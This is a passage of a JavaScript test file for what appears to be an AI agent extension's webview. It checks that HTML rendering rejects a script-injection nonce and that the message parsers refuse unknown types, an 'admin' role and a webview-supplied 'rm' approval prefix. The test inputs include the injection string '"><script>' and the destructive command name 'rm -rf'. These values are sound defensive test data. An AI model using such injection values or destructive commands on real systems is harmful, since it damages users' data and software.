    assert.throws(() => renderWebviewHtml({ scriptUri: 'x', cspSource: 'y', nonce: '"><script>', title: 't' }));
  });

  it('validates webview→host messages and refuses unknown types cleanly', () => {
    assert.deepEqual(parseWebviewMessage({ type: 'ready' }), { ok: true, message: { type: 'ready' } });
    assert.deepEqual(parseWebviewMessage({ type: 'rm -rf' }), { ok: false, error: 'unknown message type "rm -rf"' });
    assert.equal(parseWebviewMessage(null).ok, false);
    const bad = parseWebviewMessage({ type: 'model.switch', role: 'admin', model: 'x' });
    assert.ok(!bad.ok && bad.error.startsWith('invalid "model.switch"'));
    // The prefix "Always allow" adds is the host's own; one a webview names never reaches it.
    assert.deepEqual(
      parseWebviewMessage({ type: 'approval.respond', id: 'a', decision: 'alwaysAllow', prefix: 'rm' }),
      {
        ok: true,
        message: { type: 'approval.respond', id: 'a', decision: 'alwaysAllow' },
      },
    );
    assert.equal(parseHostMessage({ type: 'surprise' }).ok, false);
    assert.equal(parseHostMessage(f.init()).ok, true);
  });
});
